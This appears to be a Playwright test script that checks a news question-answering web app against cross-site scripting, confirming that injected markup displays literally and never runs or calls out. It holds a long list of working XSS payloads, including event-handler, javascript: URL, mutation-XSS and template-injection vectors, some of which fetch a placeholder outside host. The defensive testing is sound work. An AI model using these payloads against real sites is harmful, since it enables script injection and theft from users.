"""Cross-site scripting: scripts and markup in titles, texts, sources and questions.

    python tests/bench/payloads.py

Each payload is part of an article and of a question. The page must show it
letter by letter, in the question, the citation, the article and the evidence page. It must not run,
load anything, or be parsed so far that the Content-Security-Policy has to block it.
"""

import argparse
import json
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

from browser import PATIENCE_MS, ask, launch_chromium, serve_articles
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

ACTIONS = (
    "window.taken=1",
    "document.title='taken'",
    "alert(1)",
    "fetch('//outside.invalid/')",
    "new Image().src='//outside.invalid/'",
    "import('//outside.invalid/x.js')",
)
SCRIPTS = (
    "<script>JS</script>",
    "<SCRIPT SRC=data:text/javascript,JS></SCRIPT>",
    '<img src=x onerror="JS">',
    "<img/src/onerror=JS>",
    '<svg onload="JS">',
    "<svg><script>JS</script></svg>",
    '<svg><animate onbegin="JS" attributeName=x dur=1s>',
    '<body onload="JS">',
    '<input autofocus onfocus="JS">',
    '<details open ontoggle="JS">x</details>',
    '<video><source onerror="JS"></video>',
    '<audio src=x onerror="JS">',
    '<iframe src="javascript:JS"></iframe>',
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<object data="javascript:JS">',
    '<embed src="data:text/html,<script>JS</script>">',
    '<a href="javascript:JS">x</a>',
    '<form action="javascript:JS"><button>x</button></form>',
    '<button formaction="javascript:JS">x</button>',
    '<math><a xlink:href="javascript:JS">x</a></math>',
    '<marquee onstart="JS">x</marquee>',
    '<style onload="JS"></style>',
    '<link rel=stylesheet href=x onerror="JS">',
    '<meta http-equiv=refresh content="0;url=javascript:JS">',
    '"><script>JS</script>',
    "'><img src=x onerror=JS>",
    "</title><script>JS</script>",
    "</textarea><script>JS</script>",
    "</script><script>JS</script>",
    "--><script>JS</script>",
    "]]><script>JS</script>",
    '" onmouseover="JS" x="',
    "' autofocus onfocus='JS",
    "javascript:JS",
    "{{constructor.constructor(`JS`)()}}",
    "${(()=>{JS})()}",
    '<x onclick="JS" style="position:fixed;inset:0">x</x>',
    "<x contenteditable autofocus onfocus=JS>x</x>",
    "&lt;script&gt;JS&lt;/script&gt;",
    "&#60;script&#62;JS&#60;/script&#62;",
    "%3Cscript%3EJS%3C/script%3E",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "<scr<script>ipt>JS</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "<math><mtext><table><mglyph><style><img src onerror=JS>",
    "[x](javascript:JS)",
    "<!--[if gte IE 4]><script>JS</script><![endif]-->",
)
MARKUP = (
    "<img src=//outside.invalid/a.png>",
    "<img srcset='//outside.invalid/a.png 1x'>",
    "<picture><source srcset=//outside.invalid/a.webp><img></picture>",
    "<video src=//outside.invalid/a.mp4 autoplay></video>",
    "<audio src=//outside.invalid/a.mp3 autoplay></audio>",
    "<link rel=stylesheet href=//outside.invalid/a.css>",
    "<link rel=prefetch href=//outside.invalid/a>",
    "<style>@import '//outside.invalid/a.css';</style>",
    "<p style=\"background:url('//outside.invalid/a.png')\">x</p>",
    "<iframe src=//outside.invalid/></iframe>",
    "<object data=//outside.invalid/a.swf></object>",
    "<base href=//outside.invalid/>",
    "<meta http-equiv=refresh content='0;url=//outside.invalid/'>",
    "<svg><use href=//outside.invalid/a.svg#x></use></svg>",
    "<svg><image href=//outside.invalid/a.png></image></svg>",
    "<input type=image src=//outside.invalid/a.png>",
    "![x](//outside.invalid/a.png)",
    "\u202e<b>gnorw</b>\u202c",
)
PAYLOADS = [*MARKUP, *(script.replace("JS", action) for action in ACTIONS for script in SCRIPTS)]


def build_text(number: int, payload: str) -> str:
    return f"Mayor Ada Quill opened bridge {number} on Thursday. {payload} It rained."


def write_articles(file: Path, payloads: list[str]) -> None:
    """Write an article for each payload, with the payload in every field that the page shows."""
    articles = [
        {
            "id": f"payload-{number}",
            "title": f"Bridge {number} {payload}",
            "text": build_text(number, payload),
            "source": payload,
            "author": payload,
            "url": payload,
            "date": "2023-11-09",
        }
        for number, payload in enumerate(payloads)
    ]
    file.write_text("".join(json.dumps(article) + "\n" for article in articles), "utf-8")


class Watch:
    """Counts what a page must not do: run a payload, leave the origin, report errors."""

    def __init__(self, context: BrowserContext, origin: str) -> None:
        self.ran = 0
        self.outside: list[str] = []
        self.complaints: list[str] = []

        def note_request(url: str) -> None:
            if not url.startswith((origin, "blob:")):
                self.outside.append(url)

        context.on("request", lambda request: note_request(request.url))
        context.on("console", lambda message: self.complaints.append(message.text))
        context.on("weberror", lambda error: self.complaints.append(str(error.error)))
        context.on("dialog", lambda dialog: self._dismiss(dialog.dismiss))

    def _dismiss(self, dismiss: Callable[[], None]) -> None:
        self.ran += 1
        dismiss()

    def check(self, page: Page) -> None:
        taken = page.evaluate("window.taken !== undefined || document.title === 'taken'")
        self.ran += bool(taken)


def check_watch(browser: Browser) -> None:
    """Exit if the watch misses a payload that runs."""
    context = browser.new_context()
    watch = Watch(context, "http://127.0.0.1")
    page = context.new_page()
    page.set_content("<script>window.taken=1;alert(1)</script><img src=http://outside.invalid/>")
    watch.check(page)
    context.close()
    if watch.ran < 2 or not watch.outside:
        sys.exit("the watch is blind: a page that obeys a payload was not noticed")


def list_differences(page: Page, proof: Page, number: int, payload: str) -> list[str]:
    """Ask about a payload's article and open it; return the texts not shown letter by letter."""
    question = f"Who opened bridge {number}? {payload}"
    # Chromium renders a background page once a second, and a click waits for that.
    page.bring_to_front()
    turn = ask(page, question)
    citation = turn.locator("button.citation").first
    link = turn.get_by_role("link", name="Permanent link").first.get_attribute("href")
    citation.click()
    article = page.get_by_role("dialog")
    expect(article.locator("mark.current").first).to_be_visible(timeout=PATIENCE_MS)
    proof.goto(link or "")
    title, text = f"Bridge {number} {payload}", build_text(number, payload)
    shown = {
        "question": (turn.get_by_role("heading", level=2).text_content(), question),
        "citation's title": (citation.locator(".citation-title").text_content(), title),
        "citation's source": (
            citation.locator(".citation-facts bdi").first.text_content(),
            payload,
        ),
        "article's title": (article.get_by_role("heading").text_content(), title),
        "article's author": (article.locator(".article-facts bdi").nth(1).text_content(), payload),
        "article's text": (article.locator(".article-text").text_content(), text),
        "evidence's title": (proof.locator("h1").text_content(), title),
        "evidence's text": (proof.locator(".text").text_content(), text),
    }
    page.get_by_role("button", name="New conversation").click()
    return [f"{where}: {seen!r}" for where, (seen, meant) in shown.items() if seen != meant]


def restrict_to_source(payload: str) -> Callable[[Route], None]:
    """Filter a question on its way to the service by the article's source."""

    def narrow(route: Route) -> None:
        body = json.loads(route.request.post_data or "")
        body["filters"]["sources"] = [payload]
        route.continue_(post_data=json.dumps(body))

    return narrow


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--payloads", type=int, default=len(PAYLOADS), help="default: all")
    count = parser.parse_args().payloads
    # Spread over all kinds, even if few are chosen.
    chosen = [PAYLOADS[place * len(PAYLOADS) // count] for place in range(count)]
    wrong: list[str] = []
    with tempfile.TemporaryDirectory() as folder, launch_chromium() as browser:
        check_watch(browser)
        articles = Path(folder) / "articles.jsonl"
        write_articles(articles, chosen)
        with serve_articles(articles, Path(folder) / "data") as address:
            context = browser.new_context(reduced_motion="reduce")
            watch = Watch(context, address)
            page, proof = context.new_page(), context.new_page()
            page.goto(address)
            for number, payload in enumerate(chosen):
                page.route("**/v1/ask", restrict_to_source(payload))
                wrong += list_differences(page, proof, number, payload)
                page.unroute("**/v1/ask")
                watch.check(page)
                watch.check(proof)
    print(f"payloads            {count}")
    print(f"ran                 {watch.ran}")
    print(f"outside requests    {len(watch.outside)}")
    print(f"complaints          {len(watch.complaints)}")
    print(f"not letter by letter {len(wrong)}")
    print(*watch.outside, *watch.complaints, *wrong, sep="\n")
    return bool(watch.ran or watch.outside or watch.complaints or wrong)


if __name__ == "__main__":
    sys.exit(main())
